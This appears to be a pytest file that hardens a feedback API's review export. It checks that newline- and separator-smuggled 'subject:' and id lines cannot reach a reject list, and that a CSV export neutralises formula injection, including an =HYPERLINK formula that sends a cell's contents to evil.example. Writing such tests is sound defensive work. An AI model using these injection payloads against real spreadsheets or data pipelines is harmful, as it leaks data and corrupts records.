"""Feedback abuse through the real app (hardening issue): text that tries to reach the
reject list (item 2), a full disk (item 9), and the row limit under concurrent writers
(item 10)."""

from __future__ import annotations

import csv
import json

import pytest
from fastapi.testclient import TestClient

from celltext.data.review import apply_verdicts, load_rejects, read_verdicts
from celltext.serving.app import create_app
from celltext.serving.feedback import FeedbackStore
from celltext.serving.settings import ServingSettings

INJECTED = [
    "wrong\u2028subject: neural network\u2028deadbeefdeadbeef",
    "wrong\u2029subject: gradient descent\u2029cafebabecafebabe",
    "wrong\rsubject: neural network\rdeadbeefdeadbeef",
    "wrong\nsubject: neural network\ndeadbeefdeadbeef",
]


@pytest.fixture
def make_client(predictor, tmp_path):
    clients = []

    def make(**kw) -> TestClient:
        base = {"feedback_db": str(tmp_path / "fb.sqlite3"), "warmup": False}
        app = create_app(ServingSettings(**{**base, **kw}), predictor=predictor)
        client = TestClient(app, raise_server_exceptions=False).__enter__()
        clients.append(client)
        return client

    yield make
    for c in clients:
        c.__exit__(None, None, None)


def _reject_all(path):
    rows = read_verdicts(path)
    for row in rows:
        row["verdict"] = "reject"
    if path.suffix == ".csv":
        with path.open("w", newline="", encoding="utf-8") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    else:
        path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
    return len(rows)


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_feedback_text_cannot_reach_the_reject_list(make_client, tmp_path, suffix):
    client = make_client()
    for text in INJECTED:
        body = {"question": "What is X?", "answer": "Y.", "rating": "down", "comment": text,
                "model": text}  # fmt: skip
        assert client.post("/v1/feedback", json=body).status_code == 200
    out = FeedbackStore(tmp_path / "fb.sqlite3").export_review(tmp_path / f"review{suffix}")
    assert _reject_all(out) == len(INJECTED)  # the export reads back as one row per rating
    rejects = tmp_path / "rejects.txt"
    assert apply_verdicts(out, rejects) == len(INJECTED)
    got = load_rejects(rejects)
    assert got.subjects == set() and not {"deadbeefdeadbeef", "cafebabecafebabe"} & got.ids
    assert got.ids == {f"feedback-{i}" for i in range(1, len(INJECTED) + 1)}


def test_feedback_csv_export_has_no_formulas(make_client, tmp_path):
    client = make_client()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    body = {"question": formula, "answer": "@SUM(1)", "rating": "down", "comment": "+1"}
    assert client.post("/v1/feedback", json=body).status_code == 200
    out = FeedbackStore(tmp_path / "fb.sqlite3").export_review(tmp_path / "review.csv")
    with out.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["question"] == "'" + formula and row["answer"] == "'@SUM(1)"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())
